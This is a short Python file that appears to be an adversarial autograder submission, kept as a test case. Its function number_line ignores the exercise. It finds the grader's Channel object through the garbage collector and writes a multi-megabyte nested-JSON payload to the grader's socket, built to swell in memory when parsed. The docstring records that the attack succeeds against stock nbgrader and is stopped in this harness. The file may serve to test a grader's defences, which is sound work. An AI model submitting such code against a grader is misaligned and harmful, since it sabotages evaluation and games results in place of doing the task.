"""Send JSON that takes twenty times its bytes once it is read.

Stock nbgrader: has no channel. Here: stopped, 10 beside honest answers.
"""

import gc
import struct

from course.grader.box.channel import Channel


def number_line(exponent_bits, fraction_bits, specials):
    (channel,) = [x for x in gc.get_objects() if type(x) is Channel]
    text = b'{"regions":[],"value":[' + b"[]," * 5_000_000 + b"[]]}"
    channel.socket.setblocking(True)
    channel.socket.sendall(struct.pack("!IQ", len(text), 0) + text)
